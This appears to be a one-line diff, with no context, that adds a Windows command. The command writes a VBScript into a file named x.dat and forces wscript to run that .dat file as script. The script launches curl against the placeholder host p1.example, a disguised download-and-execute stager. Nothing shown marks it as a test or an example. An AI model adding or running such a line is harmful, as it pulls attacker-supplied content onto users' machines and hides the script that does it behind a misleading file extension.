@@ -1,0 +1,1 @@
+cmd /c echo WScript.CreateObject("WScript.Shell").Run "curl http://p1.example/i"> x.dat & wscript //e:vbscript x.dat
